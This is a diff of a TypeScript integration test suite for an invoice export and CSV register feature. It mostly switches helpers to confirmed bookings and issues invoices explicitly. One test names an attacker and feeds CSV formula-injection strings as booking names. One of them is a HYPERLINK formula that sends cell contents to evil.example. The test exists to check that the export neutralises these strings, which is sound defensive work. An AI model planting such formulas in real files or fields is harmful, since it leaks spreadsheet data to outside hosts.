@@ -4,13 +4,22 @@ import { request as httpRequest } from 'node:http';
 import request from 'supertest';
 import { parse } from 'csv-parse/sync';
 import { DB_KINDS } from './helpers/databases.js';
-import { createBooking, loginAdmin, registerCustomer, startContext, type TestContext } from './helpers/context.js';
+import {
+  createConfirmedBooking,
+  loginAdmin,
+  registerCustomer,
+  startContext,
+  type TestContext,
+} from './helpers/context.js';
 import { getBinary, readPdf } from './helpers/pdf.js';
 import { eventually, filesIn, listen } from './helpers/server.js';
 import { unzip } from './helpers/zip.js';
 
 const sha256 = (b: Buffer) => createHash('sha256').update(b).digest('hex');
 const rupees = (paise: number) => `${Math.trunc(paise / 100)}.${String(paise % 100).padStart(2, '0')}`;
+/** The admin issues the invoices of the confirmed bookings scheduled in the range. */
+const issueRange = (ctx: TestContext, admin: string, from: string, to: string) =>
+  request(ctx.app).post('/api/admin/invoices/issue').send({ from, to }).set('Authorization', admin).expect(200);
 const exportZip = (ctx: TestContext, admin: string, query: Record<string, string>) =>
   getBinary(ctx.app, '/api/admin/invoices/export').query(query).set('Authorization', admin);
 
@@ -30,17 +39,21 @@ for (const kind of DB_KINDS) {
         [a, '15', '29'],
         [b, '21', '07'],
       ] as const) {
-        ids.push((await createBooking(ctx.app, who.auth, { scheduledAt: `2032-04-${day}T06:00:00Z`, state })).id);
+        ids.push(
+          (await createConfirmedBooking(ctx.app, who.auth, { scheduledAt: `2032-04-${day}T06:00:00Z`, state })).id,
+        );
       }
       // Issued before the export: keeps its number.
       await request(ctx.app).get(`/api/bookings/${ids[0]}/invoice`).set('Authorization', a.auth).expect(200);
-      const cancelled = await createBooking(ctx.app, a.auth, { scheduledAt: '2032-04-10T06:00:00Z' });
+      const cancelled = await createConfirmedBooking(ctx.app, a.auth, { scheduledAt: '2032-04-10T06:00:00Z' });
       await request(ctx.app)
         .patch(`/api/admin/bookings/${cancelled.id}`)
         .set('Authorization', admin)
         .send({ status: 'cancelled' })
         .expect(200);
-      await createBooking(ctx.app, a.auth, { scheduledAt: '2032-05-02T06:00:00Z' }); // outside the range
+      await createConfirmedBooking(ctx.app, a.auth, { scheduledAt: '2032-05-02T06:00:00Z' }); // outside the range
+      // Exports issue nothing: the admin issues April's invoices first.
+      await issueRange(ctx, admin, '2032-04-01', '2032-04-30');
     });
     after(() => ctx?.close());
 
@@ -66,7 +79,8 @@ for (const kind of DB_KINDS) {
       }
 
       const manifest = JSON.parse(entries.find((e) => e.name === 'manifest.json')!.data.toString());
-      expect(manifest.counts).to.deep.equal({ bookings: 4, pdfs: 4, failed: 0, skipped: 0, registerRows: 4 });
+      // The cancelled booking never had an invoice: listed as skipped, nothing issued for it.
+      expect(manifest.counts).to.deep.equal({ bookings: 5, pdfs: 4, failed: 0, skipped: 1, registerRows: 4 });
       for (const file of manifest.files)
         expect(sha256(pdfs.find((p) => p.name === file.name)!.data)).to.equal(file.sha256);
       const csv = entries.find((e) => e.name === 'register.csv')!.data;
@@ -116,7 +130,10 @@ for (const kind of DB_KINDS) {
       const attacker = await registerCustomer(ctx.app, 'Mallory');
       const formulas = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', '+SUM(1+1)', '-2+3', '@cmd'];
       for (const name of formulas) {
-        const booking = await createBooking(ctx.app, attacker.auth, { scheduledAt: '2032-07-10T06:00:00Z', name });
+        const booking = await createConfirmedBooking(ctx.app, attacker.auth, {
+          scheduledAt: '2032-07-10T06:00:00Z',
+          name,
+        });
         await request(ctx.app)
           .get(`/api/bookings/${booking.id}/invoice`)
           .set('Authorization', attacker.auth)
@@ -191,12 +208,8 @@ describe('invoice export robustness', () => {
     const { auth } = await registerCustomer(ctx.app);
     const ids = [];
     for (const day of ['01', '02', '03'])
-      ids.push((await createBooking(ctx.app, auth, { scheduledAt: `2034-07-${day}T06:00:00Z` })).id);
-    await request(ctx.app)
-      .get('/api/admin/invoices/register.csv')
-      .query({ from: '2034-07-01', to: '2034-07-31' })
-      .set('Authorization', admin)
-      .expect(200);
+      ids.push((await createConfirmedBooking(ctx.app, auth, { scheduledAt: `2034-07-${day}T06:00:00Z` })).id);
+    await issueRange(ctx, admin, '2034-07-01', '2034-07-31');
     // Break the middle invoice's snapshot so the template cannot render it.
     const broken = await ctx.rt.db('invoices').where({ booking_id: ids[1] }).first();
     const snapshot = JSON.parse(broken.snapshot);
@@ -219,9 +232,10 @@ describe('invoice export robustness', () => {
   it('stops rendering at once when the client goes away, leaving no temp files', async () => {
     const { auth } = await registerCustomer(ctx.app);
     for (let i = 0; i < 40; i++)
-      await createBooking(ctx.app, auth, {
+      await createConfirmedBooking(ctx.app, auth, {
         scheduledAt: `2035-03-01T${String(i % 24).padStart(2, '0')}:${String(i).padStart(2, '0')}:00Z`,
       });
+    await issueRange(ctx, admin, '2035-03-01', '2035-03-31');
     const http = await listen(ctx.app);
     try {
       const startCount = ctx.rt.renderer.stats.rendered;
